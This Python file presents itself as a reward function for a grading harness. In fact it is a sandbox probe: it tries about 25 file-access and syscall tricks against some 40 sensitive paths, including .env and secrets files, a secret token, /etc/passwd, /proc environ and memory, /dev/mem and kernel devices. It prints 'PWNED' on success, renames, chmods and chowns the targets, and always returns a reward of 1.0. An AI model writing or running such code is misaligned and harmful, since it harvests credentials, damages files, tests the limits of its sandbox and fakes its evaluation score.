import ctypes, linecache, mmap, os, shutil, socket, sqlite3, sys, tokenize
libc = ctypes.CDLL(None, use_errno=True)
libc.fopen.restype = ctypes.c_void_p
PLACES = ["@CHECKOUT@/.env", "@CHECKOUT@/.streamlit/secrets.toml", "@CHECKOUT@/refine_core/errors.py", "@WORK@/.env",
          "@WORK@/.streamlit/secrets.toml", "@DATA@/store.db", "@HOME@/.secret_token", "/etc/passwd", "/etc/hostname",
          "/proc/self/root/etc/passwd", "/proc/self/cwd/../../../etc/passwd", "/proc/thread-self/environ", "/proc/1/environ",
          "/proc/self/maps", "/proc/self/mem", "/proc/self/auxv", "/proc/self/cmdline", "/proc/self/mountinfo", "/proc/net/tcp",
          "/proc/version", "/proc/kallsyms", "/proc/keys", "/proc/self/status", "/sys/class/net", "/sys/kernel/security",
          "/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/ptmx", "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/run", "/boot",
          "/var/lib", "/root/.bashrc", "../stuck", "../stderr", "..", os.path.dirname(sys.prefix) + "/.env",
          sys.prefix + "/pyvenv.cfg", sys.prefix + "/bin/activate"]
def copied(path):
    shutil.copyfile(path, "copy")
    return open("copy").read()
def queried(path):
    return sqlite3.connect(f"file:{path}?mode=ro&immutable=1", uri=True).execute("select * from sqlite_master").fetchall()
def attached(path):
    db = sqlite3.connect(":memory:")
    db.execute("attach ? as x", (path,))
    return db.execute("select * from x.sqlite_master").fetchall()
def relative(path):
    here = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
    os.fchdir(here)
    return os.read(os.open(os.path.basename(path), os.O_RDONLY | os.O_NOFOLLOW, dir_fd=here), 99)
def raw(number, *arguments):
    done = libc.syscall(ctypes.c_long(number), *arguments)
    if done < 0:
        raise OSError
    return done
def opened_by_c(path):
    if not libc.fopen(path.encode(), b"r"):
        raise OSError
    return "fopen"
def loaded(path):
    try:
        return ctypes.CDLL(path)
    except OSError as error:
        return "invalid ELF" in str(error) or "file too short" in str(error) or None
def by_handle(path):
    handle = (ctypes.c_char * 200)()
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    return raw(303 if os.uname().machine == "x86_64" else 264, -100, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
HOW = [copied, queried, attached, relative, opened_by_c, loaded, by_handle, linecache.getlines,
       lambda p: tokenize.open(p).read(), lambda p: mmap.mmap(os.open(p, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:9],
       lambda p: os.open(f"/proc/self/fd/{os.open(p, os.O_PATH)}", os.O_RDONLY),
       lambda p: os.open(f"/dev/fd/{os.open(p, os.O_PATH)}", os.O_RDONLY),
       lambda p: os.listdir(os.open(p, os.O_PATH)),
       lambda p: os.sendfile(os.open("out", os.O_WRONLY | os.O_CREAT), os.open(p, os.O_PATH), 0, 99),
       lambda p: os.copy_file_range(os.open(p, os.O_PATH), os.open("out", os.O_WRONLY | os.O_CREAT), 99),
       lambda p: os.open(p, os.O_RDONLY | os.O_DIRECTORY | os.O_TMPFILE), lambda p: os.open(p, os.O_TMPFILE | os.O_RDWR),
       lambda p: raw(437, -100, p.encode(), (ctypes.c_uint64 * 3)(0, 0, 0), 24),
       lambda p: raw(428, -100, p.encode(), 1), lambda p: os.statvfs(p) and None, lambda p: os.rename(p, "stolen"),
       lambda p: os.getxattr(p, "user.x"), lambda p: os.utime(p), lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, 1, 1)]
def reward(args, pred):
    home = os.getcwd()
    for path in PLACES:
        path = os.path.join(home, path)
        for number, how in enumerate(HOW):
            try:
                found = how(path)
                if found:
                    print("PWNED", number, path, found)
            except (OSError, sqlite3.Error, ValueError, SyntaxError, TypeError, UnicodeError):
                pass
            os.chdir(home)
    return 1.0
